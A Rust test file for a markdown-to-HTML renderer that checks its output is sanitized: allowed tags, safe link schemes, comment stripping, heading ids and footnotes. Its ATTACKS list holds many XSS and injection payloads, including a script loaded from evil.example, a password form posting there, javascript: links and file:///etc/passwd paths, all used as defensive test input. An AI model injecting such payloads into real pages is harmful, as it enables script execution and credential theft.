use super::*;

use proptest::prelude::*;

/// Tags of the output with their attributes. All that is not a tag is text, as a browser reads it: a `<` of text is
/// escaped.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    for part in html.split('<').skip(1) {
        let (tag, _) = part.split_once('>').unwrap_or_else(|| panic!("a tag that does not end: {part}"));
        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut attributes = Vec::new();
        while let Some((name, after)) = rest.trim_start().split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap();
            attributes.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
        assert!(matches!(rest.trim(), "" | "/"), "what is {rest:?} in {tag:?}?");
        tags.push((name.trim_end_matches('/').trim().to_owned(), attributes));
    }
    tags
}

const TAGS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Nothing but what we know; links only to where people may go.
fn is_harmless(html: &str) {
    for (name, attributes) in tags(html) {
        assert!(TAGS.contains(&name.trim_start_matches('/')), "<{name}> in {html}");
        for (attribute, value) in attributes {
            match attribute.as_str() {
                "href" => {
                    let harmless = ["https://", "http://", "mailto:", "#a-", "#n1-", "page:"];
                    let lower = value.to_lowercase();
                    assert!(harmless.iter().any(|begin| lower.starts_with(begin)), "{value} in {html}");
                    assert!(!value.contains(char::is_whitespace), "{value} in {html}");
                }
                "id" => assert!(value.starts_with("a-") || value.starts_with("n1-"), "{html}"),
                "class" => assert!(["wide", "alert"].contains(&value.as_str()), "{html}"),
                "rel" | "role" | "tabindex" | "aria-label" | "start" => {}
                _ => panic!("{attribute}={value} in {html}"),
            }
        }
    }
    assert!(!html.chars().any(|c| c == '\0' || ('\u{202a}'..='\u{202e}').contains(&c)), "{html:?}");
}

fn lead(typed: &str) -> Option<String> {
    let pages =
        BTreeMap::from([("vpn/reset".to_owned(), Target::new("page:vpn/reset".to_owned(), ["", "# Part one"]))]);
    leads("vpn", &pages, typed)
}

fn html(text: &str) -> String {
    markdown(text, 1, &lead, "Table")
}

/// What people have tried elsewhere.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <img src=x onerror=alert(1)> b",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "</style></title></article><script>alert(1)</script>",
    "--></noscript><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><x onclick=alert(1)>",
    "<p style=\"position:fixed;inset:0\" onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#1;javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example\\x)",
    "[a](https:evil)",
    "[a](http://x\" onclick=\"alert(1))",
    "[a](<http://x\" onclick=\"alert(1)>)",
    "[a](https://x.example 'x\" onclick=\"alert(1)')",
    "[a][b]\n\n[b]: javascript:alert(1) \"x\"",
    "<javascript:alert(1)>",
    "<https://x.example/\"onclick=alert(1)>",
    "![x\" onerror=\"alert(1)](x)",
    "![a](https://evil.example/pixel.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![a](javascript:alert(1))](javascript:alert(1))",
    "# x\" onclick=\"alert(1)\n\n[a](#x\"onclick=alert(1))",
    "# <script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [a](javascript:1) |",
    "- [x] <script>alert(1)</script>",
    "\u{202e}gpj.exe\u{0} [a](java\u{0}script:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<a\nhref=javascript:alert(1)\n>",
    "[a](kb:../../../etc/passwd) [a](../../../../x.html) [a](/vpn/../x)",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\" onclick=alert(1)] <!-- <script>alert(1)</script>",
    "[^x\"onclick=alert(1)]\n\n[^x\"onclick=alert(1)]: # a\n",
    "</script><br onclick=alert(1)></p onclick=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">",
    "> <script>\n> alert(1)\n> </script>",
    "1. <script>\n   alert(1)\n",
];

#[test]
fn what_is_an_attack_elsewhere_is_text_here() {
    for attack in ATTACKS {
        is_harmless(&html(attack));
        is_harmless(&html(&format!("before {attack} behind\n\n{attack}\n\n## {attack}\n")));
        assert!(!words(attack).contains('\0') && !summary(attack, 20).contains('\0'));
    }
    assert_eq!(html("a <b onclick=x>c</b>"), "<p>a &lt;b onclick=x&gt;c&lt;/b&gt;</p>\n");
    assert_eq!(html("![a *cat*](https://x.example/cat.png)"), "<p>a <em>cat</em></p>\n");
}

proptest! {
    #[test]
    fn no_text_does_anything(text in "[<>\"'=a-c\\[\\]()#!&;:/*_`~|\\\\ \n-]{0,80}") {
        is_harmless(&html(&text));
    }

    #[test]
    fn no_attacks_together_do_anything(picked in proptest::collection::vec(0..ATTACKS.len(), 1..5), glue in "[ \n>|\\[\\](`#-]{0,3}") {
        let text: Vec<&str> = picked.iter().map(|at| ATTACKS[*at]).collect();
        is_harmless(&html(&text.join(&glue)));
    }
}

#[test]
fn links_lead_to_articles_or_out_or_nowhere() {
    assert_eq!(html("[a](reset)"), "<p><a href=\"page:vpn/reset\">a</a></p>\n");
    for typed in ["vpn/reset", "kb:vpn/reset", "../vpn/reset.md", "kb/vpn/reset.toml", "reset.md#steps"] {
        assert_eq!(html(&format!("[a]({typed})")), "<p><a href=\"page:vpn/reset\">a</a></p>\n", "{typed}");
    }
    assert_eq!(html("[a](reset.md#part-one)"), "<p><a href=\"page:vpn/reset#a-part-one\">a</a></p>\n");
    assert_eq!(html("[*a*](mail/reset)"), "<p><em>a</em></p>\n", "there is no such article");
    assert_eq!(
        html("<https://x.example/?a=1&b=2> <me@x.example>"),
        "<p><a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer\">https://x.example/?a=1&amp;b=2</a> \
         <a href=\"mailto:me@x.example\">me@x.example</a></p>\n"
    );
    assert_eq!(
        html("# Big\n\n[up](#big) [x](#small)"),
        "<h2 id=\"a-big\">Big</h2>\n<p><a href=\"#a-big\">up</a> x</p>\n"
    );
}

#[test]
fn headings_stand_in_order_below_the_title_of_the_page_each_with_an_id_of_its_own() {
    let ids = |text: &str| -> Vec<String> {
        let opening = tags(&html(text)).into_iter().filter(|(name, _)| name.starts_with('h'));
        opening.map(|(name, attributes)| format!("{name}#{}", attributes[0].1)).collect()
    };
    assert_eq!(ids("# A\n### B\n###### C\n# A\n## A"), ["h2#a-a", "h3#a-b", "h4#a-c", "h2#a-a-2", "h3#a-a-3"]);
    assert_eq!(ids("### B\n## A"), ["h2#a-b", "h2#a-a"], "the first one is the highest, whatever it is");
    let deep = (1..=6).map(|level| format!("{} x\n", "#".repeat(level))).collect::<String>();
    assert_eq!(ids(&deep).last().unwrap(), "h6#a-x-6");
}

#[test]
fn a_summary_is_the_first_paragraph() {
    let text = "# Title\n\nOne *two*\nthree, four.\n\nMore.";
    assert_eq!(summary(text, 100), "One two three, four.");
    assert_eq!(summary(text, 15), "One two three…");
    assert_eq!(summary("- a\n- b", 10), "");
    assert_eq!(words("# A\n- b `c`\n\n| d |\n|---|\n| e |"), "A b c d e");
}

#[test]
fn comments_are_for_those_who_write() {
    for text in [
        "a <!-- pw hunter2 --> b",
        "a <!-- pw\nhunter2 --> b",
        "a <!-- pw\n\nhunter2 --> b",
        "a <!-- pw `hunter2` --> b",
        "a <!-- pw `hunter2 --> b",
        "a <!--> <!-- hunter2 -->\n\n<!-- hunter2\n\n# hunter2\n--> b",
        "<div>\n<!-- hunter2\n\n hunter2 -->\n</div>\n\na b",
        "a b <!-- hunter2\n\nhunter2",
        "a b\n\n> <!-- hunter2\n\nhunter2",
        "a b <!-- \n```\n--> <!-- hunter2",
        "a b\n\n- x <!--\n- hunter2",
    ] {
        let said = [html(text), words(text), summary(text, 100)];
        assert!(!said.iter().any(|said| said.contains("hunter2") || said.contains("pw")), "{text}: {said:?}");
        assert!(said[1].contains('a') && said[1].contains('b'), "{text}: {said:?}");
    }
    assert_eq!(html("<!-- x -->\n\n# A\n\nb<!-- y -->"), "<h2 id=\"a-a\">A</h2>\n<p>b</p>\n");
    assert_eq!(html("`<!-- a -->` \\<!-- b"), "<p><code>&lt;!-- a --&gt;</code> &lt;!-- b</p>\n", "meant to be read");
    assert_eq!(html("```html\n<!-- a -->\n```"), "<pre><code>&lt;!-- a --&gt;\n</code></pre>\n");
}

proptest! {
    #[test]
    fn no_comment_is_left_outside_code(text in "(<!--|-->|[a<>!\\- \n]){0,24}") {
        prop_assert!(!html(&text).contains("&lt;!--") || text.contains("    ") || text.contains('\\'), "{text}");
    }
}

#[test]
fn a_line_break_is_one_and_a_tag_that_closes_nothing_is_nothing() {
    assert_eq!(html("a<br>b<br />c</br>d<BR/>e"), "<p>a<br />\nb<br />\nc<br />\nd<br />\ne</p>\n");
    assert_eq!(html("a</a> b</p> c</div>\n\n</div>\n\n<br>\n\nd"), "<p>a b c</p>\n<p>d</p>\n");
    assert_eq!(html("<b>a</b></b>"), "<p>&lt;b&gt;a&lt;/b&gt;</p>\n");
    assert_eq!(html("<div>\na<br>b\n</div>\n</div>"), "<p>&lt;div&gt;\na<br />\nb\n&lt;/div&gt;\n</p>\n");
}

#[test]
fn footnotes_stand_below_the_text_and_nothing_is_lost() {
    assert_eq!(
        html("a[^x] b[^1] c[^x] d[^gone]\n\n[^1]: One\n[^x]: Ex\n\ne"),
        "<p>a<sup><a href=\"#n1-1\">1</a></sup> b<sup><a href=\"#n1-2\">2</a></sup> c<sup><a href=\"#n1-1\">1</a></sup> \
         d[^gone]</p>\n<p>e</p>\n<hr>\n<ol>\n<li id=\"n1-1\">\n<p>Ex</p>\n</li>\n<li id=\"n1-2\">\n<p>One</p>\n</li>\n</ol>\n"
    );
    assert!(html("a\n\n[^lonely]: alone").contains("alone"));
}

#[test]
fn thousands_of_headings_and_links_take_no_time() {
    let text = "# a\n\n[x](#a) [y](reset#a)\n\n".repeat(20_000);
    let started = std::time::Instant::now();
    assert!(html(&text).contains("id=\"a-a-20000\""));
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    assert_eq!(ids("# a 2\n# a\n# a\n# a 3\n# a"), ["a-a-2", "a-a", "a-a-3", "a-a-3-2", "a-a-4"]);
}
